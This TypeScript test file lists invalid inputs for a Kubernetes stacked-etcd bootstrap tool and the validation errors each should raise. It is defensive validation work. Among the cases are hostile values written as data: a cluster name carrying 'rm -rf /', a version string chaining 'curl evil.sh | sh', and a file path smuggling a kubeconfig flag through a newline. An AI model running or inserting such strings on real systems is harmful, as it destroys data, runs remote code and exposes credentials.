/**
 * Bad inputs of BootstrapStackedEtcd, each one mutation of examples/bootstrap-stacked-etcd.json.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { projectRoot } from '../../../lib/paths';
import {
  type BadInputCase,
  buildCases,
  type CaseSpec,
  drop,
  getAt,
  hostCases,
  manyHosts,
  replace,
  runOptionCases,
  set,
  setFrom,
  wholeInputCases,
} from './cases';

/** The documented example, as a user pastes it into the Web UI. */
export function validBootstrapInput(): Record<string, unknown> {
  return JSON.parse(readFileSync(path.join(projectRoot, 'examples', 'bootstrap-stacked-etcd.json'), 'utf8')) as Record<string, unknown>;
}

const hosts = (i: Record<string, unknown>) => i.hosts as Array<Record<string, unknown>>;

const specs: CaseSpec[] = [
  ...wholeInputCases(),
  ['an empty object', 'clusterName', /expected string/i, replace(() => ({}))],
  ['clusterName missing', 'clusterName', /expected string/i, drop('clusterName')],
  ['clusterName with capitals and an underscore', 'clusterName', /DNS-1123/, set('clusterName', 'Prod_A')],
  ['clusterName with a shell command', 'clusterName', /DNS-1123/, set('clusterName', 'prod-a; rm -rf /')],
  ['clusterName of 100 000 characters', 'clusterName', /<=\s*63/, set('clusterName', 'a'.repeat(100_000))],
  ['clusterName as a number', 'clusterName', /expected string/i, set('clusterName', 42)],
  ['clusterName null', 'clusterName', /expected string/i, set('clusterName', null)],
  ['a misspelt key (clustername)', '(input)', /unknown field\(s\) "clustername"/, set('clustername', 'prod-a')],
  ['kubernetesVersion older than 1.26', 'kubernetesVersion', /from 1\.26 on/, set('kubernetesVersion', '1.25.9')],
  ['kubernetesVersion "latest"', 'kubernetesVersion', /from 1\.26 on/, set('kubernetesVersion', 'latest')],
  ['kubernetesVersion with a command after it', 'kubernetesVersion', /from 1\.26 on/, set('kubernetesVersion', '1.31.2 && curl evil.sh | sh')],
  ['podCidr with a /33 prefix', 'podCidr', /prefix length/, set('podCidr', '10.0.0.0/33')],
  ['podCidr that is not a CIDR', 'podCidr', /IPv4 CIDR/, set('podCidr', 'calico-default')],
  ['podCidr overlapping serviceCidr', 'serviceCidr', /overlaps podCidr/, set('podCidr', '10.96.0.0/16')],
  ['serviceCidr containing a host', 'hosts[0].address', /inside serviceCidr/, set('serviceCidr', '10.0.0.0/16')],
  ['aws missing', 'aws', /expected object/i, drop('aws')],
  ['aws region in capitals', 'aws.region', /AWS region/, set('aws.region', 'US-EAST-1')],
  ['no subnets', 'aws.subnetIds', /at least one subnet/, set('aws.subnetIds', [])],
  ['subnetIds as one string', 'aws.subnetIds', /expected array/i, set('aws.subnetIds', 'subnet-0a1b2c3d')],
  ['the same subnet twice', 'aws.subnetIds[1]', /duplicates subnetIds\[0\]/, setFrom('aws.subnetIds[1]', (i) => getAt(i, 'aws.subnetIds[0]'))],
  ['aws endpoint over ftp', 'aws.endpoint', /http\(s\) URL/, set('aws.endpoint', 'ftp://moto:5000')],
  ['aws endpoint with credentials in it', 'aws.endpoint', /user name or password/, set('aws.endpoint', 'http://AKIAEXAMPLE:wJalrXUtnFEMI@moto:5000')],
  ['an access key next to the region', 'aws', /unknown field\(s\) "secretAccessKey"/, set('aws.secretAccessKey', 'wJalrXUtnFEMI/K7MDENG')],
  ['vpcId with an underscore', 'aws.vpcId', /VPC id/, set('aws.vpcId', 'vpc_0a1b')],
  ['load balancer name starting with "internal-"', 'loadBalancer.name', /internal-/, set('loadBalancer.name', 'internal-api')],
  ['load balancer name of 40 characters', 'loadBalancer.name', /1-32 letters/, set('loadBalancer.name', 'a'.repeat(40))],
  ['an internet-facing load balancer', 'loadBalancer.scheme', /must be "internal"/, set('loadBalancer.scheme', 'internet-facing')],
  [
    'adopting a target group ARN as the load balancer',
    'loadBalancer.adopt.arn',
    /Network Load Balancer ARN/,
    set('loadBalancer.adopt', { arn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/api/0123456789abcdef' }),
  ],
  [
    'health-check timeout longer than its interval',
    'loadBalancer.targetGroup.healthCheck.timeoutSeconds',
    /intervalSeconds/,
    set('loadBalancer.targetGroup.healthCheck.timeoutSeconds', 20),
  ],
  [
    'a negative health-check interval',
    'loadBalancer.targetGroup.healthCheck.intervalSeconds',
    />=\s*5/,
    set('loadBalancer.targetGroup.healthCheck.intervalSeconds', -10),
  ],
  ['a negative healthy deadline', 'loadBalancer.targetGroup.healthyDeadlineSeconds', />=\s*30/, set('loadBalancer.targetGroup.healthyDeadlineSeconds', -1)],
  [
    'a healthy deadline of 30 years',
    'loadBalancer.targetGroup.healthyDeadlineSeconds',
    /<=\s*3600/,
    set('loadBalancer.targetGroup.healthyDeadlineSeconds', 1e9),
  ],
  ['no hosts', 'hosts', /at least one host/, set('hosts', [])],
  ['hosts as an object keyed by name', 'hosts', /expected array/i, setFrom('hosts', (i) => Object.fromEntries(hosts(i).map((h) => [h.name, h])))],
  ['501 hosts', 'hosts', /at most 500 hosts/, setFrom('hosts', (i) => [...hosts(i), ...manyHosts(hosts(i), 4, 495, 'worker')])],
  ['5 000 hosts', 'hosts', /at most 500 hosts/, setFrom('hosts', (i) => manyHosts(hosts(i), 0, 5000, 'worker'))],
  [
    '8 control planes (etcd takes 7 voters)',
    'hosts',
    /at most 7 voting members/,
    setFrom('hosts', (i) => [...hosts(i), ...manyHosts(hosts(i), 0, 4, 'control-plane')]),
  ],
  [
    'only workers, no control plane',
    'hosts',
    /needs at least one host with role "control-plane"/,
    setFrom('hosts', (i) => hosts(i).map((h) => ({ ...h, role: 'worker' }))),
  ],
  ['two hosts with one name', 'hosts[1].name', /must be unique/, setFrom('hosts[1].name', (i) => hosts(i)[0].name)],
  ['two hosts with one address', 'hosts[2].address', /must be unique/, setFrom('hosts[2].address', (i) => hosts(i)[0].address)],
  [
    'two hosts marked as primary',
    'hosts[0]',
    /unknown field\(s\) "primary"/,
    replace((i) => {
      hosts(i)[0].primary = true;
      hosts(i)[1].primary = true;
      return i;
    }),
  ],
  ...hostCases('hosts[2]'),
  ['an unknown CNI source', 'cni', /unknown field\(s\) "source"/, set('cni', { source: 'weave', rolloutTimeoutSeconds: 600 })],
  ['CNI given as a name', 'cni', /expected object/i, set('cni', 'calico')],
  ['CNI manifest over ftp', 'cni.url', /http\(s\) URL/, set('cni.url', 'ftp://mirror.example/calico.yaml')],
  [
    'CNI manifest URL with a token in it',
    'cni.url',
    /user name or password/,
    set('cni.url', 'https://ghp_abc123:x-oauth-basic@raw.githubusercontent.com/org/private/main/calico.yaml'),
  ],
  ['a relative CNI file', 'cni.file', /absolute path/, replace((i) => ({ ...i, cni: { file: 'manifests/calico.yaml' } }))],
  [
    'a CNI file path with a newline',
    'cni.file',
    /control characters/,
    replace((i) => ({ ...i, cni: { file: '/srv/calico.yaml\n--kubeconfig=/root/.kube/config' } })),
  ],
  ['both a CNI url and file', 'cni.file', /either url or file/, set('cni.file', '/srv/calico.yaml')],
  ['a negative CNI rollout timeout', 'cni.rolloutTimeoutSeconds', />=\s*10/, set('cni.rolloutTimeoutSeconds', -1)],
  ['parallelism 0', 'parallelism', />=\s*1/, set('parallelism', 0)],
  ['parallelism of a million', 'parallelism', /<=\s*50/, set('parallelism', 1_000_000)],
  ['parallelism 2.5', 'parallelism', /expected int/i, set('parallelism', 2.5)],
  ['rotation every 3 hours (keys live 2)', 'rotationSchedule.every', /must stay under 110m/, set('rotationSchedule', { every: '3h' })],
  ['rotation "every day"', 'rotationSchedule.every', /duration/, set('rotationSchedule', { every: 'every day' })],
  ...runOptionCases('join-workers', 'verify'),
];

/** Every bad input of BootstrapStackedEtcd. */
export function bootstrapCases(): BadInputCase[] {
  return buildCases(validBootstrapInput, specs);
}
